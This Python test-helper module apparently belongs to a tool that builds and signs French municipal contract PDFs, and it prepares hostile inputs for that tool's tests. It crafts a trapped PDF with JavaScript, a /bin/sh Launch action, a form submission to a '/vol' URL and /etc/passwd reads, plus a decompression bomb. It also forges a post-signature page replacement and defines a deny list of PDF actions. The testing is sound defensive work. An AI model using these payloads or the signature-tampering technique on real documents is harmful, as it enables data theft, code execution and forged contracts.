"""What the hostile-input tests share: the minimal contract and how to break it, bounded runs of
build.py, crafted annexes and archives, the minimal contract built and signed, throwaway signing
certificates (never committed). A module of helpers, so that test modules do not import each other."""

from __future__ import annotations

import datetime as dt
import json
import resource
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import RACINE, lancer_processus

MINIMAL = RACINE / "tests" / "fixtures" / "minimal" / "sources"
SECRET = "SECRET-DE-LA-MACHINE-4242"
FIN = len((MINIMAL / "contrat.yaml").read_text(encoding="utf-8").splitlines()) + 1
"""Line of contrat.yaml where a case appends its text."""


def _limiter() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))


def verifier(sources: Path) -> subprocess.CompletedProcess:
    """``build.py check`` as a pull-request preview would run it, bounded."""
    return lancer_processus("--sources", str(sources), "check", timeout=60, preexec_fn=_limiter)


def copie_minimale(dossier: Path) -> Path:
    """A writable copy of the minimal contract's sources, ``dossier/sources``."""
    sources = dossier / "sources"
    shutil.copytree(MINIMAL, sources)
    return sources


def _ajouter(fichier: Path, texte: str) -> None:
    fichier.write_text(fichier.read_text(encoding="utf-8") + texte, encoding="utf-8")


def _remplacer(fichier: Path, avant: str, apres: str) -> None:
    texte = fichier.read_text(encoding="utf-8")
    assert avant in texte, avant
    fichier.write_text(texte.replace(avant, apres, 1), encoding="utf-8")


def _texte_du_preambule(s: Path, nom: str) -> None:
    _remplacer(s / "contrat.yaml", "texte: textes/preambule.md", f"texte: {nom}")


def _ajouter_a_la_prose(s: Path, texte: str) -> None:
    _ajouter(s / "textes" / "preambule.md", "\n" + texte + "\n")


def _lien(s: Path, nom: str, cible: Path) -> None:
    (s / nom).parent.mkdir(parents=True, exist_ok=True)
    (s / nom).symlink_to(cible)


def _export(s: Path, fichier: str) -> None:
    _remplacer(s / "chiffres_cles.yaml", '''    colonnes: [{code: "2014", libelle: "2014"}, {code: "2020", libelle: "2020"}]''',
               f'''    fichier: "{fichier}"''')
    texte = (s / "chiffres_cles.yaml").read_text(encoding="utf-8")
    debut = texte.index("    lignes:")
    (s / "chiffres_cles.yaml").write_text(texte[:debut], encoding="utf-8")


def _annexe(s: Path, fichier: str) -> None:
    _remplacer(s / "contrat.yaml", "  - {code: enjeux, titre: \"Les enjeux\", inclure: enjeux}\n",
               "  - {code: enjeux, titre: \"Les enjeux\", inclure: enjeux}\n"
               "  - {code: annexes, titre: \"Annexes\", inclure: annexes}\n")
    _ajouter(s / "contrat.yaml", f'annexes:\n  - {{code: carte, titre: "Carte", fichier: "{fichier}"}}\n')


LOT = """
import contextlib, io, json, signal, sys, time
from contrat.cli.principal import lancer

delai = int(sys.argv[1])

def trop_long(*_):
    raise TimeoutError(f"plus de {delai} s")

signal.signal(signal.SIGALRM, trop_long)
resultats = {}
for dossier in sys.argv[2:]:
    sortie, erreurs = io.StringIO(), io.StringIO()
    signal.alarm(delai)
    debut = time.monotonic()
    try:
        with contextlib.redirect_stdout(sortie), contextlib.redirect_stderr(erreurs):
            lancer(["--sources", dossier, "check"])
        code = 0
    except SystemExit as fin:
        code = fin.code if isinstance(fin.code, int) else 1
    signal.alarm(0)
    resultats[dossier] = [code, sortie.getvalue(), erreurs.getvalue(), time.monotonic() - debut]
print(json.dumps(resultats))
"""
"""``build.py check`` of each sources folder given, one after the other in one process (each bounded
by the delay given first): what every case printed, its exit code and its time."""


def verifier_par_lot(cas: list[tuple[str, Callable[[Path], object], str]], dossier_de: Callable[[str], Path],
                     secrets: tuple[str, ...] = ("secret.md",), delai: int = 20
                     ) -> dict[str, tuple[subprocess.CompletedProcess, float]]:
    """Every case's sources prepared (the minimal contract, a secret beside it, the case's change),
    then checked in one process limited to 1 Go: a bomb that got through would bring that process
    down, and every case with it. ``dossier_de``: a new folder for a case (tmp_path_factory.mktemp)."""
    dossiers = {}
    for nom, modifier, _ in cas:
        racine = dossier_de(nom)
        shutil.copytree(MINIMAL, racine / "sources")
        for secret in secrets:
            (racine / secret).write_text(f"{SECRET}\n", encoding="utf-8")
        modifier(racine / "sources")
        dossiers[nom] = str(racine / "sources")
    fini = subprocess.run([sys.executable, "-c", LOT, str(delai), *dossiers.values()], capture_output=True, text=True,
                          timeout=900, preexec_fn=_limiter, cwd=RACINE)
    assert fini.returncode == 0, fini.stderr[-3000:]
    resultats = json.loads(fini.stdout)
    return {nom: (subprocess.CompletedProcess([nom], *resultats[d][:3]), resultats[d][3]) for nom, d in dossiers.items()}


def _annexe_piegee(chemin: Path, pages: int = 1, bombe: bool = False) -> None:
    """A partner's PDF carrying every kind of active content, at page and document level."""
    import zlib

    import pikepdf

    pdf = pikepdf.new()
    police = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                  BaseFont=pikepdf.Name.Helvetica))
    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('piege')"))
    actions = [
        pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://exemple.fr"), Next=js),
        pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://exemple.fr/vol")),
        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("/etc/passwd")),
        pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("/etc/passwd"), D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=pikepdf.Name.GoToE, F=pikepdf.String("piece.pdf"), D=pikepdf.Array([0])),
        pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh")),
        pikepdf.Dictionary(S=pikepdf.Name.Rendition, JS=pikepdf.String("app.alert(2)")),
    ]
    for n in range(pages):
        texte = f"BT /F1 24 Tf 72 700 Td (ANNEXE PIEGEE {n + 1}) Tj ET".encode()
        if bombe:
            texte += b"\n%" + b" " * (150 * 1024 * 1024)
        contenu = pdf.make_stream(zlib.compress(texte, 9) if bombe else texte)
        if bombe:
            contenu.Filter = pikepdf.Name.FlateDecode
        annotations = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 72 + 20 * k, 300, 90 + 20 * k], A=a))
            for k, a in enumerate(actions)])
        annotations.append(pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Screen, Rect=[0, 0, 10, 10], AA=pikepdf.Dictionary(PO=js))))
        page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Contents=contenu,
                                  Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=police)),
                                  Annots=annotations, AA=pikepdf.Dictionary(O=js))
        pdf.pages.append(pikepdf.Page(page))
    pdf.Root.OpenAction = js
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), js])))
    pdf.attachments["charge.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ...", filename="charge.exe")
    chemin.parent.mkdir(parents=True, exist_ok=True)
    pdf.save(chemin)


ACTIONS_INTERDITES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/Rendition",
                      "/URI", "/ResetForm", "/Hide", "/Sound", "/Movie"}


def contrat_signe(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """The minimal contract built, then signed by two signatories (throwaway certificates): the
    ``signe`` fixture of the modules that declare it (``pytest.fixture(name="signe")(contrat_signe)``)."""
    dossier = tmp_path_factory.mktemp("verify")
    dist = dossier / "dist"
    fini = lancer_processus("--sources", str(MINIMAL), "--dist", str(dist), timeout=300)
    assert fini.returncode == 0, fini.stderr
    original = (dist / "contrat-de-ville.pdf").read_bytes()
    p12_a, pem_a = _certificat(dossier, "Prefete du Jura")
    p12_b, pem_b = _certificat(dossier, "President CCVF")
    p12_x, _ = _certificat(dossier, "Faussaire")
    pdf = dossier / "signe.pdf"
    pdf.write_bytes(original)
    for p12 in (p12_a, p12_b):
        fini = _lancer("sign", str(pdf), "--cert", str(p12), "--mot-de-passe", "secret")
        assert fini.returncode == 0, fini.stderr
    return {"dossier": dossier, "original": original, "signe": pdf.read_bytes(), "confiance": [pem_a, pem_b],
            "faussaire": p12_x}


def _lancer(*args: str) -> subprocess.CompletedProcess:
    return lancer_processus(*args, timeout=600, preexec_fn=_limiter)


def _verify(pdf: Path, signe: dict) -> subprocess.CompletedProcess:
    confiance = [a for pem in signe["confiance"] for a in ("--confiance", str(pem))]
    return _lancer("verify", str(pdf), "--sources", str(MINIMAL), *confiance)


def _pdfsig(pdf: Path) -> tuple[bool, bool]:
    """(every signature valid, last signature covers the whole document) according to poppler."""
    sortie = subprocess.run(["pdfsig", str(pdf)], capture_output=True, text=True, timeout=60).stdout
    blocs = sortie.split("Signature #")[1:]
    valides = all("Signature Validation: Signature is Valid." in b for b in blocs)
    return valides, bool(blocs) and "Total document signed" in blocs[-1] and "Not total" not in blocs[-1]


def _mise_a_jour_de_la_page_1(pdf: bytes) -> bytes:
    """An incremental update that replaces what page 1 shows (what an attacker appends)."""
    import io

    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    ecrivain = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    page_ref = ecrivain.root["/Pages"]["/Kids"].raw_get(0)
    while "/Kids" in page_ref.get_object():
        page_ref = page_ref.get_object()["/Kids"].raw_get(0)
    page = page_ref.get_object()
    flux = generic.StreamObject(stream_data=b"BT /F1 30 Tf 72 700 Td (MONTANT : 1 000 000 EUR) Tj ET")
    page["/Contents"] = ecrivain.add_object(flux)
    ecrivain.mark_update(page_ref)
    sortie = io.BytesIO()
    ecrivain.write(sortie)
    return sortie.getvalue()


def _remplacer_sources_jointes(original: bytes, cible: Path, entrees: dict[str, bytes], brut: bytes | None = None) -> None:
    import io
    import zipfile

    import pikepdf

    tampon = io.BytesIO()
    if brut is None:
        with zipfile.ZipFile(tampon, "w", zipfile.ZIP_DEFLATED) as z:
            for nom, contenu in entrees.items():
                z.writestr(nom, contenu)
        brut = tampon.getvalue()
    with pikepdf.open(io.BytesIO(original)) as doc:
        doc.attachments["sources-du-contrat.zip"] = pikepdf.AttachedFileSpec(doc, brut,
                                                                              filename="sources-du-contrat.zip")
        doc.save(cible)


def _sources_minimales(**remplacements: bytes) -> dict[str, bytes]:
    entrees = {f"sources/{p.relative_to(MINIMAL).as_posix()}": p.read_bytes() for p in MINIMAL.rglob("*") if p.is_file()}
    entrees.update(remplacements)
    return entrees


def _certificat(dossier: Path, nom: str) -> tuple[Path, Path]:
    """A self-signed signing certificate made for the test (never committed)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import rsa
    from cryptography.hazmat.primitives.serialization import pkcs12
    from cryptography.x509.oid import NameOID

    cle = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    sujet = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, nom)])
    maintenant = dt.datetime.now(dt.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(sujet).issuer_name(sujet).public_key(cle.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(maintenant - dt.timedelta(days=1))
            .not_valid_after(maintenant + dt.timedelta(days=30))
            .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=True, key_encipherment=False,
                                         data_encipherment=False, key_agreement=False, key_cert_sign=True,
                                         crl_sign=False, encipher_only=False, decipher_only=False), critical=True)
            .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
            .sign(cle, hashes.SHA256()))
    p12 = dossier / f"{nom}.p12"
    p12.write_bytes(pkcs12.serialize_key_and_certificates(nom.encode(), cle, cert, None,
                                                          serialization.BestAvailableEncryption(b"secret")))
    pem = dossier / f"{nom}.pem"
    pem.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    return p12, pem
